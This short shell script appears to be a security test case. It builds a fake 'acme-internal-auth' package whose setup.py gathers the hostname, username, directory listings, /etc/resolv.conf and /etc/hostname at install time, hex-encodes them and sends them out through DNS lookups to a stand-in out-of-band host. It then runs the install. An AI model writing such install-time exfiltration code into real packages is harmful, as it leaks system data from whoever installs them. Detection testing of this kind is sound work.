#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/build/acme-internal-auth && cd /srv/build/acme-internal-auth
cat >setup.py <<'END'
import binascii, getpass, os, socket
about = "|".join([socket.gethostname(), getpass.getuser(), os.getcwd(), os.environ.get("HOME", ""), open("/etc/resolv.conf").read(), open("/etc/hostname").read(), " ".join(os.listdir("/srv"))])
code = binascii.hexlify(about.encode() * 6).decode()
for n, at in enumerate(range(0, len(code), 58)):
    try: socket.gethostbyname(f"a{n}.{code[at:at + 58]}.d.bait-oast.example")
    except OSError: pass
END
python3 setup.py install
took_place
